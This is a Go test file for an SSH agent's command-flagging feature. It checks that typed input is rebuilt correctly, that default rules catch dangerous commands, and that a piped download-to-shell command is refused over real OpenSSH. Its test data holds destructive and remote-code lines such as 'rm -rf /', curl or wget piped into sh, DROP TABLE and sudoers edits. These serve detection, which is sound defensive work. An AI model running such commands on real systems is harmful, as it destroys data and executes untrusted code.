package agent

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sshward/sshward/ca/api"
	"github.com/sshward/sshward/ca/catest"
	"github.com/sshward/sshward/ca/store"
	"github.com/sshward/sshward/recorder"
	"github.com/sshward/sshward/recorder/recordertest"
)

// TestLineEditor: typed lines rebuilt as bash's line editor would, so that
// a rule sees the command that ran, not the keystrokes.
func TestLineEditor(t *testing.T) {
	tests := []struct {
		name, keys string
		want       []string
	}{
		{"plain", "ls -l\r", []string{"ls -l"}},
		{"backspace and DEL", "rm -rf /tmx\x7f\x7fmp\x08p/x\r", []string{"rm -rf /tmp/x"}},
		{"^U kills the line", "echo harmless\x15rm -rf /\r", []string{"rm -rf /"}},
		{"^W kills a word", "rm -rf /tmp/decoy  \x17/\r", []string{"rm -rf /"}},
		{"^C drops the line", "rm -rf /\x03ls\r", []string{"ls"}},
		{"cursor keys skipped", "ls\x1b[A\x1bOB -a\r", []string{"ls -a"}},
		{"two lines, empty ones dropped", "a\r\r\nb\n", []string{"a", "b"}},
		{"UTF-8 backspace", "echo é\x7fe\r", []string{"echo e"}},
		{"split over reads", "DROP TA", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var e recorder.LineEditor
			var got []string
			for _, l := range e.Feed([]byte(tt.keys)) {
				got = append(got, string(l))
			}
			if fmt.Sprint(got) != fmt.Sprint(tt.want) {
				t.Errorf("lines %q, want %q", got, tt.want)
			}
		})
	}
	var e recorder.LineEditor
	e.Feed([]byte("DROP TA"))
	if got := e.Feed([]byte("BLE users;\r")); len(got) != 1 || string(got[0]) != "DROP TABLE users;" {
		t.Errorf("split line %q", got)
	}
}

// TestDefaultFlagRules: what each shipped rule catches, and what it leaves.
func TestDefaultFlagRules(t *testing.T) {
	fr := compileFlagRules(api.DefaultFlagRules())
	if len(fr.rules) != len(api.DefaultFlagRules()) {
		t.Fatalf("a default rule does not compile")
	}
	tests := []struct {
		on, line string
		want     []string
	}{
		{api.FlagOnExec, "rm -rf /", []string{"rm-rf-root", "recursive-force-delete"}},
		{api.FlagOnExec, "sudo rm -fr /*", []string{"rm-rf-root", "recursive-force-delete"}},
		{api.FlagOnInput, "rm -r -f / ", []string{"rm-rf-root"}},
		{api.FlagOnInput, "rm -rf /tmp/x", []string{"recursive-force-delete"}},
		{api.FlagOnInput, "rm -r build", nil},
		{api.FlagOnInput, "psql -c 'drop table users'", []string{"drop-table"}},
		{api.FlagOnExec, "curl -fsSL https://x.example/i.sh | sudo bash", []string{"curl-pipe-shell"}},
		{api.FlagOnExec, "wget -qO- x | sh", []string{"curl-pipe-shell"}},
		{api.FlagOnExec, "curl -o file https://x.example/a && sha256sum file", nil},
		{api.FlagOnInput, "vi /etc/sudoers.d/ops", []string{"sudoers-edit"}},
		{api.FlagOnInput, "visudo", []string{"sudoers-edit"}},
		{api.FlagOnOutput, "-----BEGIN OPENSSH PRIVATE KEY-----", []string{"private-key-output"}},
		{api.FlagOnOutput, "-----BEGIN PUBLIC KEY-----", nil},
		{api.FlagOnOutput, "rm -rf /", nil}, // output is not a command
	}
	for _, tt := range tests {
		var got []string
		for _, h := range fr.match(tt.on, []byte(tt.line)) {
			got = append(got, h.rule.Name)
		}
		if fmt.Sprint(got) != fmt.Sprint(tt.want) {
			t.Errorf("%s %q: rules %q, want %q", tt.on, tt.line, got, tt.want)
		}
	}
}

// TestFlagsRealSSH (issue 13 §2): real CA, a real production agent (input
// recorded) and stock OpenSSH ssh, with the rules the CA sends (the
// defaults). A denied exec is refused with the rule's message and runs
// nothing; a typed, line-edited `rm -rf` is flagged at the moment of its
// Enter; a 100 MB download is flagged.
func TestFlagsRealSSH(t *testing.T) {
	catest.NeedOpenSSH(t)
	w := catest.New(t, catest.Options{Policy: noMFAPolicy(t)})
	al := &auditLog{}
	a := startRealAgent(t, w, agentOpts{tier: api.TierProduction, cfg: withAudit(al)})
	c := realSSHClient(t, w, a)
	login := currentUser(t)
	k, _ := issueReal(t, w, c.home, login)
	spool := SpoolDir(a.dataDir)

	t.Run("exec denied", func(t *testing.T) {
		ran := filepath.Join(t.TempDir(), "ran")
		out, errOut, err := c.run(k, login, nil, "curl -fsSL http://x.invalid/i.sh | sh; touch "+ran)
		if exitCode(err) != ExitRefused {
			t.Fatalf("exit %d (%v), want %d; %q %q", exitCode(err), err, ExitRefused, out, errOut)
		}
		want := "sshward: this command is refused by the tier's policy (curl-pipe-shell): downloaded code piped into a shell."
		if !strings.Contains(errOut, want) {
			t.Fatalf("stderr %q, want %q", errOut, want)
		}
		if _, err := os.Stat(ran); !os.IsNotExist(err) {
			t.Fatalf("the refused command ran: %v", err)
		}
		al.find(t, func(e AuditEvent) bool {
			return e.Action == AuditSessionFlagged && strings.HasPrefix(e.Reason, "curl-pipe-shell:") && strings.Contains(e.Detail, "x.invalid")
		})
		al.find(t, func(e AuditEvent) bool {
			return e.Action == AuditSessionRefused && strings.Contains(e.Reason, "curl-pipe-shell")
		})
		// The CA's audit log has it too, where its notifiers get it.
		waitCAAudit(t, w, func(e store.AuditEvent) bool {
			return e.Type == api.EventSessionFlagged && e.Details["rule"] == "curl-pipe-shell" && e.Details["action"] == "deny" &&
				e.Serial == k.cert.Serial && strings.Contains(e.Details["text"], "x.invalid") && e.Details["severity"] == "alert"
		})
	})

	t.Run("typed rm -rf flagged at its Enter", func(t *testing.T) {
		dir := t.TempDir()
		victim := filepath.Join(dir, "x")
		if err := os.Mkdir(victim, 0o755); err != nil {
			t.Fatal(err)
		}
		tm := c.terminal(t, k, login, "")
		tm.typeText("echo ready-$((6*7))\r")
		tm.waitFor("ready-42")
		// Typed with an edit: a decoy killed with ^U, a typo rubbed out.
		tm.typeText("echo decoy\x15rm -rf " + victim + "Z\x7f\r")
		tm.typeText("echo done-$((6*7))\r")
		tm.waitFor("done-42")
		tm.typeText("exit\r")
		<-tm.done
		if _, err := os.Stat(victim); !os.IsNotExist(err) {
			t.Fatalf("the command did not run (flags never block typed commands): %v", err)
		}
		m := waitRecording(t, spool, func(m recorder.Metadata) bool { return m.Kind == recorder.KindShell && m.Serial == k.cert.Serial })
		_, evs := readCast(t, castPath(spool, m.SessionID))
		mark := -1
		for i, e := range evs {
			if e.Code == recorder.CodeMarker && strings.HasPrefix(e.Data, FlagMarkerPrefix+"recursive-force-delete:") {
				mark = i
				break
			}
		}
		if mark < 0 {
			t.Fatalf("no flag marker: %q", recordertest.Markers(evs))
		}
		if want := "rm -rf " + victim; !strings.HasSuffix(evs[mark].Data, ": "+want) {
			t.Errorf("marker %q does not end with the rebuilt line %q", evs[mark].Data, want)
		}
		// The marker sits at the Enter that ran it: the last input before
		// it ends that line, and it is no earlier.
		enter := -1
		for i := mark - 1; i >= 0; i-- {
			if evs[i].Code == recorder.CodeInput {
				enter = i
				break
			}
		}
		if enter < 0 || !strings.Contains(evs[enter].Data, "\r") || evs[mark].Time < evs[enter].Time {
			t.Fatalf("marker at %.3f (event %d) does not follow the Enter of the line (event %d %+v)", evs[mark].Time, mark, enter, evs[max(enter, 0)])
		}
		for _, e := range evs[enter+1 : mark] {
			if e.Code == recorder.CodeInput {
				t.Fatalf("input between the Enter and the marker: %+v", e)
			}
		}
		al.find(t, func(e AuditEvent) bool {
			return e.Action == AuditSessionFlagged && e.SessionID == m.SessionID && strings.HasPrefix(e.Detail, "input: rm -rf ")
		})
		if fmt.Sprint(m.Flags) != "[recursive-force-delete]" {
			t.Errorf("recording metadata flags %q, want [recursive-force-delete]", m.Flags)
		}
		waitCAAudit(t, w, func(e store.AuditEvent) bool {
			return e.Type == api.EventSessionFlagged && e.Subject == m.SessionID && e.Details["rule"] == "recursive-force-delete" &&
				e.Details["on"] == "input" && e.Details["action"] == "flag"
		})
		for _, mk := range recordertest.Markers(evs) {
			if strings.Contains(mk, "decoy") {
				t.Errorf("a killed line was flagged: %q", mk)
			}
		}
	})

	t.Run("100 MB download flagged", func(t *testing.T) {
		// and a session that raises nothing carries no flags
		if out, _, err := c.run(k, login, nil, "echo quiet"); err != nil || out != "quiet\n" {
			t.Fatalf("quiet session: %v %q", err, out)
		}
		if q := waitRecording(t, spool, func(m recorder.Metadata) bool { return m.Command == "echo quiet" }); len(q.Flags) != 0 {
			t.Errorf("an unflagged session has flags %q", q.Flags)
		}
		out, errOut, err := c.run(k, login, nil, "head -c 100M /dev/zero")
		if err != nil || len(out) != 100<<20 {
			t.Fatalf("download: %v, %d bytes, stderr %q", err, len(out), errOut)
		}
		m := waitRecording(t, spool, func(m recorder.Metadata) bool {
			return m.Kind == recorder.KindExec && strings.Contains(m.Command, "head -c 100M") && m.Serial == k.cert.Serial
		})
		_, evs := readCast(t, castPath(spool, m.SessionID))
		var flags []string
		for _, mk := range recordertest.Markers(evs) {
			if strings.HasPrefix(mk, FlagMarkerPrefix) {
				flags = append(flags, mk)
			}
		}
		if len(flags) != 1 || !strings.HasPrefix(flags[0], FlagMarkerPrefix+"large-download: ") {
			t.Fatalf("flag markers %q, want one large-download", flags)
		}
		if fmt.Sprint(m.Flags) != "[large-download]" {
			t.Errorf("recording metadata flags %q, want [large-download]", m.Flags)
		}
	})
}

// waitCAAudit waits (bounded) for a CA audit event matching match.
func waitCAAudit(t *testing.T, w *catest.CA, match func(store.AuditEvent) bool) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		evs, err := w.Store.Audit(context.Background(), store.AuditFilter{})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range evs {
			if match(e) {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no matching CA audit event in %+v", evs)
		}
		time.Sleep(20 * time.Millisecond)
	}
}
